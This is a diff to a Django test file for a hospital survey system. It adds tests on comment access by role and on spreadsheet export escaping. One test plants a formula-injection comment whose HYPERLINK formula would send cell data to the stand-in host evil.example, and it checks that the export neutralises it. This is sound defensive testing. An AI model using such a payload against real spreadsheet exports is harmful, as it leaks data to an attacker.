@@ -85,13 +85,7 @@ def respond(
     token.save(update_fields=["used_at"])
     version = token.version
     response = SurveyResponse.objects.create(
-        token=token,
-        version=version,
-        kind=kind,
-        institution=institution,
-        department=department,
-        submitted_at=_at(day),
-        day=day,
+        version=version, kind=kind, institution=institution, department=department, day=day
     )
     for item in version.items:
         if item["type"] == "likert" and item["dimension"] in scores:
@@ -302,6 +296,14 @@ def test_quality_staff_of_another_hospital_do_not_read_qzph_comments(known) -> N
         selectors.survey_comments(other, _filters(known))
 
 
+def test_a_system_administrator_at_the_hospital_does_not_read_its_comments(known) -> None:
+    """Every permission is not the hospital's quality office: comments follow the role, not the rights."""
+    admin = _user_with(Role.SYSTEM_ADMIN, "qzph", "qzph-sysadmin")
+    assert selectors.survey_results(admin, _filters(known)).comments == 3
+    with pytest.raises(PermissionDenied):
+        selectors.survey_comments(admin, _filters(known))
+
+
 def test_the_commission_sees_the_aggregates(known, login) -> None:
     response = login("commission").get(URL, {"institution": "qzph", "kind": "outpatient", **PERIOD})
 
@@ -438,6 +440,14 @@ def test_the_quality_staff_export_figures_months_and_comments(known, login) -> N
     assert AuditEvent.objects.filter(action=AuditAction.EXPORT).count() == before + 1
     assert (event.actor.username, event.object_id) == ("quality", str(known.public_id))  # type: ignore[union-attr]
     assert event.changes["comments"] == 3
+
+
+def test_a_comment_that_looks_like_a_formula_is_exported_as_text(known, login) -> None:
+    respond("qzph", dt.date(2026, 3, 20), {"overall": 5}, comment='=HYPERLINK("http://evil.example/?x="&A1,"ok")')
+    response = login("quality", "en").get(EXPORT, {"institution": "qzph", "kind": "outpatient", **PERIOD})
+    cells = [row[3] for row in _workbook(response.content)["Comments"].iter_rows(min_row=2)]
+    hostile = next(c for c in cells if "HYPERLINK" in str(c.value))
+    assert hostile.data_type == "s" and str(hostile.value).startswith("'=")
 
 
 def test_an_export_by_anyone_else_holds_no_comment(known, login) -> None:
